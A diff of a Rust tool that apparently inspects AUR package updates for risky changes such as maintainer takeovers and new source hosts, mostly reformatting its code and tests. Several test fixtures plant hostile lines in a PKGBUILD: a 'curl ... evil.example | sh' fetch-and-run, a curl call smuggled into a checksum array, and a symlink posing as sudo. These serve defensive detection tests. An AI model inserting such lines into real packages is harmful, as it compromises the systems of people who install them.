@@ -38,11 +38,13 @@ pub struct Snapshot {
 pub enum Flag {
     /// The pkgbase is new to the lock: everything in it is to be read.
     New,
+    /// Another maintainer (login names).
     MaintainerChanged { from: String, to: String },
     /// It has no maintainer any more.
     Orphaned { was: String },
     /// It was orphaned and now has a maintainer: the shape of the June 2026 takeovers.
     Adopted { by: String },
+    /// Co-maintainers (who may push too) added or removed.
     ComaintainersChanged { added: Vec<String>, removed: Vec<String> },
     /// `source`/`source_ARCH` entries of the .SRCINFO, the new pkgver read as the old one (a
     /// version bump alone changes none); `_ARCH` entries end in ` (ARCH)`.
@@ -155,7 +157,11 @@ fn is_version(key: &str) -> bool {
 
 /// The pkgbase section's lists whose key passes `keep`, in key order.
 fn pkgbase_lists(fields: &Fields, keep: fn(&str) -> bool) -> Vec<(&str, &Vec<String>)> {
-    fields.iter().filter(|((section, key), _)| section.is_empty() && keep(key)).map(|((_, k), v)| (k.as_str(), v)).collect()
+    fields
+        .iter()
+        .filter(|((section, key), _)| section.is_empty() && keep(key))
+        .map(|((_, k), v)| (k.as_str(), v))
+        .collect()
 }
 
 /// The host a source entry is fetched from, lowercased; None for a local file (no `://`).
@@ -326,7 +332,9 @@ fn diff(before: &BTreeSet<String>, after: &BTreeSet<String>) -> Option<(Vec<Stri
 fn maintainer_flags(old: &Snapshot, new: &Snapshot) -> Vec<Flag> {
     let mut flags = Vec::new();
     match (&old.maintainer, &new.maintainer) {
-        (Some(from), Some(to)) if from != to => flags.push(Flag::MaintainerChanged { from: from.clone(), to: to.clone() }),
+        (Some(from), Some(to)) if from != to => {
+            flags.push(Flag::MaintainerChanged { from: from.clone(), to: to.clone() })
+        }
         (Some(was), None) => flags.push(Flag::Orphaned { was: was.clone() }),
         (None, Some(by)) => flags.push(Flag::Adopted { by: by.clone() }),
         _ => {}
@@ -352,7 +360,10 @@ fn source_flags(old: &Fields, new: &Fields, bump: Option<Unbump>) -> Vec<Flag> {
         flags.push(Flag::SourcesChanged { added, removed });
     }
     let hosts = |fields| -> BTreeSet<String> {
-        pkgbase_lists(fields, is_source).into_iter().flat_map(|(_, values)| values.iter().filter_map(|v| host(v))).collect()
+        pkgbase_lists(fields, is_source)
+            .into_iter()
+            .flat_map(|(_, values)| values.iter().filter_map(|v| host(v)))
+            .collect()
     };
     let hosts: Vec<String> = hosts(new).difference(&hosts(old)).cloned().collect();
     if !hosts.is_empty() {
@@ -408,7 +419,8 @@ fn file_changes(old: &Snapshot, new: &Snapshot) -> Option<Flag> {
         s.files.keys().filter(|path| *path != PKGBUILD && *path != SRCINFO).cloned().collect()
     };
     let (before, after) = (others(old), others(new));
-    let changed: Vec<String> = before.intersection(&after).filter(|p| old.files[*p] != new.files[*p]).cloned().collect();
+    let changed: Vec<String> =
+        before.intersection(&after).filter(|p| old.files[*p] != new.files[*p]).cloned().collect();
     let (added, removed) = diff(&before, &after).unwrap_or_default();
     let unchanged = added.is_empty() && removed.is_empty() && changed.is_empty();
     (!unchanged).then_some(Flag::FilesChanged { added, removed, changed })
@@ -638,7 +650,12 @@ pkgname = foo
         // Conservative: also when pkgver moves but the URL does not name it.
         let latest = |ver, sum| {
             let url = "https://foo.example/download/foo-latest.tar.gz";
-            let s = edit(foo(ver, sum), PKGBUILD, "$pkgname-$pkgver.tar.gz::https://github.com/foo/foo/archive/v$pkgver.tar.gz", url);
+            let s = edit(
+                foo(ver, sum),
+                PKGBUILD,
+                "$pkgname-$pkgver.tar.gz::https://github.com/foo/foo/archive/v$pkgver.tar.gz",
+                url,
+            );
             let written = format!("foo-{ver}.tar.gz::https://github.com/foo/foo/archive/v{ver}.tar.gz");
             edit(s, SRCINFO, &written, url)
         };
@@ -649,8 +666,14 @@ pkgname = foo
 
     /// foo at `ver` with `install=foo.install` holding `script`.
     fn foo_with_install(ver: &str, sum: &str, script: &str) -> Snapshot {
-        let s = edit(foo(ver, sum), PKGBUILD, "makedepends=('cargo')\n", "makedepends=('cargo')\ninstall=foo.install\n");
-        let mut s = edit(s, SRCINFO, "\turl = https://github.com/foo/foo\n", "\turl = https://github.com/foo/foo\n\tinstall = foo.install\n");
+        let s =
+            edit(foo(ver, sum), PKGBUILD, "makedepends=('cargo')\n", "makedepends=('cargo')\ninstall=foo.install\n");
+        let mut s = edit(
+            s,
+            SRCINFO,
+            "\turl = https://github.com/foo/foo\n",
+            "\turl = https://github.com/foo/foo\n\tinstall = foo.install\n",
+        );
         s.files.insert("foo.install".into(), script.into());
         s
     }
@@ -674,7 +697,12 @@ pkgname = foo
     #[test]
     fn a_changed_package_function_is_flagged_by_name() {
         let line = "  install -Dm0644 LICENSE";
-        let new = edit(foo("1.3.0", SUM_B), PKGBUILD, line, &format!("  ln -s /usr/bin/foo \"$pkgdir/usr/bin/sudo\"\n{line}"));
+        let new = edit(
+            foo("1.3.0", SUM_B),
+            PKGBUILD,
+            line,
+            &format!("  ln -s /usr/bin/foo \"$pkgdir/usr/bin/sudo\"\n{line}"),
+        );
         let old = foo("1.2.0", SUM_A);
         assert_eq!(assess(Some(&old), &new), [Flag::FunctionsChanged { names: strings(&["package"]) }]);
         assert!(!version_only(&old, &new));
@@ -704,11 +732,13 @@ package_foo-cli() {
 
     #[test]
     fn a_split_package_function_is_flagged_by_its_pkgname() {
-        let split = |text: &str| Snapshot { files: [(PKGBUILD.to_string(), text.to_string())].into(), ..Snapshot::default() };
+        let split =
+            |text: &str| Snapshot { files: [(PKGBUILD.to_string(), text.to_string())].into(), ..Snapshot::default() };
         let old = split(SPLIT_PKGBUILD);
         let new = split(&SPLIT_PKGBUILD.replace("install-cli", "install-cli install-completions"));
         assert_eq!(assess(Some(&old), &new), [Flag::FunctionsChanged { names: strings(&["package_foo-cli"]) }]);
-        let bump = split(&SPLIT_PKGBUILD.replace("pkgver=2.0.1", "pkgver=2.0.2").replace("'SKIP'", &format!("'{SUM_A}'")));
+        let bump =
+            split(&SPLIT_PKGBUILD.replace("pkgver=2.0.1", "pkgver=2.0.2").replace("'SKIP'", &format!("'{SUM_A}'")));
         assert!(version_only(&old, &bump));
     }
 
@@ -737,7 +767,8 @@ package_foo-cli() {
 
     #[test]
     fn a_patch_added_to_the_sources_is_not_version_only() {
-        let s = edit(foo("1.3.0", SUM_B), PKGBUILD, "v$pkgver.tar.gz\")", "v$pkgver.tar.gz\"\n        'fix-build.patch')");
+        let s =
+            edit(foo("1.3.0", SUM_B), PKGBUILD, "v$pkgver.tar.gz\")", "v$pkgver.tar.gz\"\n        'fix-build.patch')");
         let s = edit(s, PKGBUILD, &format!("'{SUM_B}')"), &format!("'{SUM_B}'\n            '{SUM_A}')"));
         let s = edit(s, PKGBUILD, "  cargo fetch", "  patch -Np1 -i ../fix-build.patch\n  cargo fetch");
         let sum = format!("sha256sums = {SUM_B}\n");
@@ -759,15 +790,22 @@ package_foo-cli() {
     #[test]
     fn code_beside_version_lines_or_checksums_is_not_taken_for_them() {
         let old = foo("1.2.0", SUM_A);
-        let pkgver = edit(foo("1.3.0", SUM_B), PKGBUILD, "pkgver=1.3.0\n", "pkgver=1.3.0; curl -s https://evil.example/x | sh\n");
+        let pkgver = edit(
+            foo("1.3.0", SUM_B),
+            PKGBUILD,
+            "pkgver=1.3.0\n",
+            "pkgver=1.3.0; curl -s https://evil.example/x | sh\n",
+        );
         assert_eq!(assess(Some(&old), &pkgver), [Flag::PkgbuildChanged]);
-        let sums = edit(foo("1.3.0", SUM_B), PKGBUILD, &format!("'{SUM_B}')"), &format!("'{SUM_B}' $(curl -s evil.example))"));
+        let sums =
+            edit(foo("1.3.0", SUM_B), PKGBUILD, &format!("'{SUM_B}')"), &format!("'{SUM_B}' $(curl -s evil.example))"));
         assert_eq!(assess(Some(&old), &sums), [Flag::PkgbuildChanged]);
     }
 
     #[test]
     fn checksum_arrays_may_span_lines_and_be_per_architecture() {
-        let lines = strings(&["b2sums_x86_64=('00ff'", "               \"SKIP\"", "               11aa)", "depends=()"]);
+        let lines =
+            strings(&["b2sums_x86_64=('00ff'", "               \"SKIP\"", "               11aa)", "depends=()"]);
         assert_eq!(checksum_array(&lines, 0), Some(3));
         assert_eq!(rest(&lines, None), ["depends=()"]);
         assert_eq!(checksum_array(&strings(&["sha256sums=('00ff'", "# the patch", "'11aa')"]), 0), None);
